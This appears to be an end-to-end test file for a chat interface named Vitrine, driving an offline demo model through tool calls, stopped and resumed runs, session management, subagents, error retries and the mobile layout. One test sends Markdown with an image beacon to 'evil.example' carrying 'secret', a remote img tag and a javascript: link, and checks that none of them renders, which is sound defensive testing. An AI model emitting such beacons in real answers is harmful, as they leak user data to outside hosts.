import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { demoJourneys } from './demo-journeys.ts';
import type { Visitor } from './visitor.ts';

const demo = demoJourneys({ VITRINE_DEMO_PACE_MS: '12' });
let visitor: Visitor;

/** Keeps a picture of the page in the folder that `SHOTS` names. */
async function keepShot(page: Page, name: string): Promise<void> {
  const shots = process.env['SHOTS'];
  if (shots !== undefined) await page.screenshot({ path: `${shots}/${name}.png` });
}

const stores = [
  ['localStorage', ''],
  ['IndexedDB', '?store=indexeddb'],
] as const;

describe.each(stores.slice(0, process.env['STORES'] === 'all' ? 2 : 1))(
  'a person without any key, whose sessions are kept in %s',
  (_place, query) => {
    it('chats, and sees the tool call in the chat and in the panel', async () => {
      visitor = await demo.visit({}, query);
      const { page, conversation, say } = visitor;
      await page.getByText('Offline demo model', { exact: true }).waitFor();
      await say('What is 12 * (3 + 4)?');
      await conversation.getByText('The result is 84.').waitFor();
      const call = conversation.locator('.vitrine-tool-call');
      await call.locator('summary').click();
      expect(await call.innerText()).toMatch(/calculator[\s\S]*12 \* \(3 \+ 4\)[\s\S]*84/);

      const panel = page.getByRole('region', { name: 'Vitrine devtools' });
      await panel.getByRole('tree', { name: 'Steps' }).getByRole('treeitem').first().click();
      await panel.getByRole('tab', { name: 'Tools' }).click();
      expect(await panel.getByRole('region', { name: 'Step 1' }).innerText()).toMatch(
        /calculator[\s\S]*completed[\s\S]*84/,
      );
      await panel.getByRole('treeitem', { name: /answer/ }).click();
      await panel.getByRole('tab', { name: 'State' }).last().click();
      await panel.getByRole('treeitem', { name: /stepExecutions/ }).click();
      await panel.getByRole('treeitem', { name: /StepExecution tool-execution/ }).waitFor();
      await panel.getByRole('tab', { name: 'Why' }).click();
      const verdicts = panel.getByText('It finished after 2 steps: The model gave its final answer.');
      await verdicts.nth(1).waitFor();
    });

    it('a person stops a running answer, keeps its part, and sees why', async () => {
      visitor = await demo.visit({}, query);
      const { page, conversation, say } = visitor;
      await say('Write a long answer');
      await conversation.getByText('An agent is a loop').first().waitFor();
      await page.getByRole('button', { name: 'Stop' }).click();
      // One sentence for one stop.
      await conversation.getByText('Stopped by you').waitFor();
      const note = conversation.getByText('This answer is incomplete.');
      await note.waitFor({ state: 'attached' });
      expect(await note.isVisible()).toBe(false);
      await conversation.locator('.vitrine-markdown').first().waitFor();
      const kept = await conversation.innerText();
      await page.getByText(/It was stopped after 1 step because a person asked for it/).waitFor();
      await page.reload();
      await conversation.getByText('Stopped by you').waitFor();
      await note.waitFor({ state: 'attached' });
      await conversation.locator('.vitrine-markdown').first().waitFor();
      expect((await conversation.innerText()).slice(0, 200)).toBe(kept.slice(0, 200));
    });

    it('reloads, finds the session again, and goes on with its notes', async () => {
      visitor = await demo.visit({}, query);
      const { page, conversation, say } = visitor;
      await say('Remember that the demo is on Friday');
      await conversation.getByText('Noted. There is 1 note now.').waitFor();
      // The last words of a run that goes on may be lost.
      await page
        .getByText(/It finished after 2 steps/)
        .first()
        .waitFor();
      await page.reload();
      await conversation.getByText('Noted. There is 1 note now.').waitFor();
      await say('Show my notes');
      await conversation.getByText(/Your notes:.*the demo is on Friday/).waitFor();
      await page.getByText('run 2', { exact: true }).waitFor();
    });

    it('a person resumes a run that a reload interrupted', async () => {
      visitor = await demo.visit({}, query);
      const { page, conversation, say } = visitor;
      await say('Write a long answer');
      await conversation.getByText('An agent is a loop').first().waitFor();
      await page.reload();
      await page.getByText('The last run was interrupted').waitFor();
      await page.getByRole('button', { name: 'Resume' }).click();
      await conversation.getByText('An agent is a loop').first().waitFor();
      await page.getByRole('button', { name: 'Stop' }).click();
      await conversation.getByText('Stopped by you').waitFor();
    });

    it('a person delegates to a subagent, whose steps the panel keeps', async () => {
      visitor = await demo.visit({}, query);
      const { page, conversation, say } = visitor;
      await say('Please research 2 + 3');
      await conversation.getByText('researcher', { exact: true }).first().waitFor();
      await conversation.getByText(/answered:/).waitFor();
      const panel = page.getByRole('region', { name: 'Vitrine devtools' });
      await panel.getByRole('tree', { name: 'Steps' }).getByRole('treeitem').first().click();
      await panel.getByRole('tab', { name: 'Tools' }).click();
      await panel.getByText(/Subagent \S+: completed, 2 steps/).waitFor();
    });

    it('a person keeps several sessions, renames and deletes them', async () => {
      visitor = await demo.visit({}, query);
      const { page, conversation, say } = visitor;
      const list = page.getByRole('navigation', { name: 'Sessions' });
      await say('What is 1 + 1?');
      await conversation.getByText('The result is 2.').waitFor();
      await list.getByRole('button', { name: 'New session' }).click();
      await page.getByText('What would you like to see?').waitFor();
      await say('What is 2 + 2?');
      await conversation.getByText('The result is 4.').waitFor();
      await list.getByText('What is 2 + 2?').hover();
      await list.getByRole('button', { name: 'Rename What is 2 + 2?' }).click();
      await list.getByLabel('Title of the session').fill('Sums');
      await page.keyboard.press('Enter');
      await list.getByText('Sums').waitFor();
      await list.getByText('What is 1 + 1?', { exact: true }).click();
      await conversation.getByText('The result is 2.').waitFor();
      await list.getByText('Sums').hover();
      await list.getByRole('button', { name: 'Delete Sums' }).click();
      await expect.poll(() => list.getByText('Sums').count()).toBe(0);
      await page.reload();
      await conversation.getByText('The result is 2.').waitFor();
      expect(await list.getByText('Sums').count()).toBe(0);
    });

    it('a person is told about an error and retries', async () => {
      visitor = await demo.visit({}, query);
      const { page, conversation, say } = visitor;
      await say('Please simulate an error');
      const alert = page.getByRole('alert');
      await alert.getByText(/simulated an error/).waitFor();
      await alert.getByRole('button', { name: 'Retry' }).click();
      await conversation.getByText('This time it worked').waitFor();
      expect(await alert.count()).toBe(0);
    });

    it('a person begins a message and names a tool from the menus of the box, and opens the settings there', async () => {
      visitor = await demo.visit({}, query);
      const { page, conversation } = visitor;
      const field = page.getByLabel('Message', { exact: true });
      const before = await field.boundingBox();
      await field.pressSequentially('/');
      await page.getByRole('option', { name: /^calculate/ }).waitFor();
      await keepShot(page, 'demo-menu');
      expect(await field.boundingBox()).toEqual(before);
      await field.press('Tab');
      await field.pressSequentially('2 + 2? @');
      await page.getByRole('option', { name: /^current_time/ }).waitFor();
      await keepShot(page, 'demo-mention');
      await field.pressSequentially('calc');
      await page.getByText('1 entry', { exact: true }).waitFor();
      await field.press('Enter');
      const asked = page.waitForRequest(/\/api\//);
      await field.press('Enter');
      expect((await asked).postData()).toContain('What is 2 + 2? @calculator');
      await conversation.getByText('The result is 4.').waitFor();
      await field.pressSequentially('/set');
      await page.getByRole('option', { name: /^settings/ }).click();
      await page.getByRole('dialog', { name: 'Settings' }).waitFor();
      expect(await field.inputValue()).toBe('');
    });

    it('the Markdown of an answer loads nothing from other servers', async () => {
      visitor = await demo.visit({}, query);
      const { page, conversation, say } = visitor;
      await say(
        '![beacon](https://evil.example/?q=secret) <img src="https://evil.example/2"> [x](javascript:alert(1))',
      );
      await conversation.getByText(/You said/).waitFor();
      await page.getByRole('button', { name: 'Send' }).waitFor();
      expect(await page.locator('.vitrine-markdown img').count()).toBe(0);
      expect(await page.locator('.vitrine-markdown a[href^="javascript"]').count()).toBe(0);
    });

    it('a person finds everything on a phone', async () => {
      visitor = await demo.visit({ viewport: { width: 390, height: 844 } }, query);
      const { page, conversation, say } = visitor;
      const heading = page.getByText('What would you like to see?');
      await page.waitForTimeout(300);
      expect((await heading.boundingBox())?.y).toBeGreaterThan(52);
      await say('What is 3 + 3?');
      await conversation.getByText('The result is 6.').waitFor();
      await say('Show me some markdown');
      await conversation.getByText('A state is plain data').waitFor();
      const edges = await conversation
        .locator('.vitrine-message')
        .evaluateAll((all) => all.map((one) => one.getBoundingClientRect().right));
      expect(Math.max(...edges)).toBeLessThanOrEqual(390);
      await page.getByRole('button', { name: 'Sessions', exact: true }).click();
      await page.getByRole('button', { name: 'New session', exact: true }).click();
      await page.getByText('What would you like to see?').waitFor();
    });
  },
);
